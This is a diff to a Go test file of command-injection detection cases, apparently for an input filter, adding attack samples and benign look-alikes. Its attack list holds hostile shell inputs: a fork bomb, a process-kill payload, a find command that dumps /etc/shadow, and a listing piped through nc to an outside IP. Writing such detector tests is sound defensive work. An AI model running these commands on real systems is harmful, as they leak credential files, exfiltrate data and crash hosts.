@@ -125,6 +125,9 @@ var cmdiQualityAttacks = []struct {
 	{"query:q", "'+process.kill(process.pid)+'"},
 	{"query:q", "f(){ f|f& };f"},
 	{"query:q", "$fn (42);"},
+	{"query:q", "ping -c 9 198.51.100.7"},
+	{"query:q", "'find /etc -name shadow -exec cat {} \\;"},
+	{"query:q", "ls -la /var/www/html | nc 198.51.100.7 80"},
 	// template probes
 	{"query:q", "${'a'.concat('b')}"},
 }
@@ -243,6 +246,8 @@ var cmdiQualityBenign = []struct {
 	{"body:text", "ps.on('close', (code) => { console.log(`ps process exited with code ${code}`); });"},
 	{"query:q", "$HOME (your home directory) is set by login"},
 	{"query:q", "$price (in USD)"},
+	{"query:q", "ping -c 4 google.com does not work"},
+	{"query:q", "find /home -name foo is slow"},
 	// shell scripts: assignments and arguments
 	{"body:text", "CURR_DIR=$(pwd)\nfor arg in \"$@\"\ndo\n  echo \"$arg\"\ndone"},
 	{"body:text", "da=\"test$N $(date) $RANDOM\""},
